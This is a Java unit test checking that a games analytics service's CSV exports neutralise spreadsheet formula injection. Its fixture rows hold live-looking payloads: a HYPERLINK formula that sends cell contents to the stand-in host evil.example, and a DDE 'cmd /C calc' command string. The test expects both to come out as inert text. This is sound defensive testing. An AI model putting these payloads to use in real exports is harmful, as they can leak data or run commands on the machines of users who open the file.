package games.analytics.query;

import static org.junit.jupiter.api.Assertions.assertEquals;
import static org.junit.jupiter.api.Assertions.assertTrue;

import games.analytics.testing.TestData;
import java.net.http.HttpResponse;
import java.nio.charset.StandardCharsets;
import java.util.List;
import org.junit.jupiter.api.AfterAll;
import org.junit.jupiter.api.BeforeAll;
import org.junit.jupiter.api.Test;

/** Text that a spreadsheet would run as a formula leaves every CSV export as inert text; numbers stay numbers. */
class CsvExportSafetyTest {

    static final String HEADER = new String(TestData.bytes(TestData.SAMPLE), StandardCharsets.UTF_8).lines().findFirst().orElseThrow();
    static final String ROWS = """
            0,910001,"=HYPERLINK(""http://evil.example/?leak=""&A1,""click"")","Oct 21, 2008",0,0.99,0,@SUM(1+1)*cmd|' /C calc'!A0,['English'],TRUE,FALSE,FALSE,5,1,,+dev,-pub,Action,=Genre,Indie
            1,910002,"	tabbed",May 2020,0,1.50,0,"
            CR first",['English'],TRUE,FALSE,FALSE,7,2,,dev,pub,Action,Plain,Indie
            """;

    static QueryServiceUnderTest service;

    @BeforeAll
    static void start() throws Exception {
        service = QueryServiceUnderTest.start("csvsafe", (HEADER + "\n" + ROWS.replace("\"\nCR", "\"\rCR")).getBytes(StandardCharsets.UTF_8));
    }

    @AfterAll
    static void stop() {
        service.close();
    }

    static HttpResponse<String> get(String pathAndQuery) throws Exception {
        return service.get(pathAndQuery);
    }

    @Test
    void exportedTextNeverStartsAFormula() throws Exception {
        HttpResponse<String> csv = get("/api/v1/games?format=csv&sort=app_id&fields=app_id,name,price,about_game,developers,publishers,genres");
        assertEquals(200, csv.statusCode(), csv.body());
        assertEquals("attachment; filename=\"games.csv\"", csv.headers().firstValue("Content-Disposition").orElse(""));
        List<String> lines = List.of(csv.body().split("\r\n"));
        assertEquals("app_id,name,price,about_game,developers,publishers,genres", lines.get(0));
        assertEquals("910001,\"'=HYPERLINK(\"\"http://evil.example/?leak=\"\"&A1,\"\"click\"\")\",0.99,'@SUM(1+1)*cmd|' /C calc'!A0,'+dev,'-pub,"
                + "\"[\"\"=Genre\"\"]\"", lines.get(1));
        assertTrue(csv.body().contains("910002,'\ttabbed,1.50,\"'\rCR first\",dev,pub,"), csv.body());
    }

    @Test
    void aggregateKeysAreNeutralisedToo() throws Exception {
        HttpResponse<String> csv = get("/api/v1/games/aggregate?format=csv&group_by=genres&metrics=count,min:name,sum:price&sort=genres");
        assertEquals(200, csv.statusCode(), csv.body());
        assertEquals("attachment; filename=\"games-aggregate.csv\"", csv.headers().firstValue("Content-Disposition").orElse(""));
        assertEquals(List.of("genres,count,min_name,sum_price", "'=Genre,1,\"'=HYPERLINK(\"\"http://evil.example/?leak=\"\"&A1,\"\"click\"\")\",0.99",
                "Plain,1,'\ttabbed,1.50"), List.of(csv.body().split("\r\n")));
        assertTrue(get("/api/v1/games/aggregate?group_by=genres").headers().firstValue("Content-Disposition").isEmpty(), "json is not a download");
    }
}
